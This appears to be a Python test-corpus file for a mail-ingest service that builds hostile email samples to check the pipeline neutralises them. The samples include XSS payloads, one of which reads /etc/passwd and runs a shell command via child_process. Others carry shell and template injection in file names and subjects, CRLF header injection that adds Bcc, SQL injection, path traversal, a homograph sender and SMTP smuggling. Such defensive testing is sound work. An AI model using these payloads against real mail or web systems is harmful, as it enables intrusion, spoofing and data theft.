# ruff: noqa: E501  (mail as it is written: long literal lines are the data)
"""Messages written to attack whoever reads them: XSS, header injection, path tricks, shell tricks.

``CANARY`` is a file name that some samples try to create through shell or
template injection; the test checks that it never appears.
"""

from __future__ import annotations

import base64

from services.ingest.tests.corpus.sample import Sample, crlf, headers

CANARY = "/tmp/umlauf-corpus-canary"

XSS_HTML = [
    "<script>alert(1)</script><p>Hallo</p>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">Klick</a>',
    '<a href="JaVaScRiPt:alert(1)">Klick</a>',
    '<a href="jav&#x09;ascript:alert(1)">Tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Entities</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<body onload="alert(1)"><div style="background:url(javascript:alert(1))">x</div></body>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<base href="https://evil.example/"><a href="/login">Login</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<div onmouseover="alert(1)" onclick="alert(2)">hover</div>',
    "<scr<script>ipt>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style><p>styled</p>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    f"<img src=\"x\" onerror=\"fetch('file:///etc/passwd');require('child_process').exec('touch {CANARY}')\">",
]


def _html(i: int, html: str) -> Sample:
    text = headers(f"XSS {i}", f"xss-{i}", "Content-Type: text/html; charset=utf-8") + "\n" + html + "\n"
    return Sample(f"XSS in HTML #{i}", crlf(text))


def _attachment(name_header: str, number: int, expected: str | None) -> Sample:
    text = (
        headers(f"Datei {number}", f"file-{number}", 'Content-Type: multipart/mixed; boundary="b"')
        + "\n--b\nContent-Type: text/plain\n\nAnbei.\n--b\nContent-Type: application/octet-stream\n"
        f"Content-Disposition: attachment; {name_header}\nContent-Transfer-Encoding: base64\n\n"
        f"{base64.b64encode(b'MZ not really').decode()}\n--b--\n"
    )
    return Sample(f"hostile file name #{number}", crlf(text), attachment_names=(expected,) if expected else ())


def samples() -> list[Sample]:
    found = [_html(i, html) for i, html in enumerate(XSS_HTML)]
    found += [
        Sample(
            "XSS in subject",
            crlf(headers("<script>alert(1)</script>", "xss-subject") + "\nx\n"),
            subject="<script>alert(1)</script>",
        ),
        Sample(
            "XSS in From name",
            crlf(headers("Name", "xss-from", sender='"<img src=x onerror=alert(1)>" <x@example.org>') + "\nx\n"),
        ),
        _attachment('filename="<img src=x onerror=alert(1)>.pdf"', 1, None),
        _attachment('filename="../../../etc/passwd"', 2, None),
        _attachment('filename="C:\\\\Windows\\\\System32\\\\evil.exe"', 3, None),
        _attachment('filename="rechnung\u202egpj.exe"', 4, None),
        _attachment(f'filename="$(touch {CANARY}).txt"', 5, None),
        _attachment('filename="=?utf-8?B?' + base64.b64encode(b"a\r\nX-Evil: 1\r\n.pdf").decode() + '?="', 6, None),
        Sample(
            "encoded CRLF + Bcc in subject",
            crlf(
                headers(
                    "=?utf-8?B?" + base64.b64encode(b"Hallo\r\nBcc: victim@example.org\r\n\r\nbody").decode() + "?=",
                    "inject-subject",
                )
                + "\nx\n"
            ),
        ),
        Sample(
            "encoded CRLF in From name",
            crlf(
                headers(
                    "Von",
                    "inject-from",
                    sender=("=?utf-8?Q?Eve=0D=0ABcc=3A_victim=40example=2Eorg?= <eve@example.org>"),
                )
            )
            + b"\r\nx\r\n",
        ),
        Sample(
            "CR alone in a header",
            b"From: a@example.org\r\nSubject: eins\rBcc: victim@example.org\r\n"
            b"Message-ID: <cr@corpus.example>\r\n\r\nx\r\n",
        ),
        Sample(
            "template and shell injection in text",
            crlf(headers("{{ 7*7 }} ${7*7} $(id)", "template") + f"\n{{{{ config }}}} `touch {CANARY}` %s %n\n"),
            subject="{{ 7*7 }} ${7*7} $(id)",
        ),
        Sample("SQL in Message-ID", crlf(headers("SQL", "x'); DROP TABLE raw_messages; --") + "\nx\n")),
        Sample(
            "NUL and control characters in headers",
            b"From: a@example.org\r\nSubject: nul\x00byte \x1b[31mred\x07\r\nMessage-ID: <ctl@corpus.example>\r\n\r\nx\r\n",
        ),
        Sample(
            "homograph sender", crlf(headers("Paypal", "homograph", sender="PayPal <service@pаypal.example>") + "\nx\n")
        ),
        Sample(
            "SMTP smuggling attempt in body",
            crlf(headers("Smuggle", "smuggle") + "\nvorher\n") + b"\n.\nMAIL FROM:<evil@example.org>\r\n"
            b"RCPT TO:<info@neudorf.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nnachher\r\n",
        ),
    ]
    return found
